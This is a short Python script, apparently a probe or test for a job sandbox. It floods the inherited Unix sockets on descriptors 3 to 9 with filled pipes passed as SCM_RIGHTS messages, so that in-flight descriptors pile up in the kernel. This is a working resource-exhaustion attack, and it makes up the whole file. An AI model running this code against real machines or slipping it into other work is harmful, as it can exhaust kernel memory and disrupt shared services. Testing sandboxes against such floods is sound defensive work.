"""Sends full pipes along the job's socket, again and again, so that they pile up in the kernel."""
import array
import os
import socket

sent = 0
for descriptor in range(3, 10):
    try:
        job = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=os.dup(descriptor))
    except OSError:
        continue
    for _ in range(200):
        try:
            reading, writing = os.pipe()
            os.write(writing, bytes(1 << 12))
            job.sendmsg([b""], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [reading, writing]))], socket.MSG_DONTWAIT)
            sent += 1
        except OSError:
            pass
        finally:
            try:
                os.close(reading)
                os.close(writing)
            except (OSError, NameError):
                pass
print(sent)
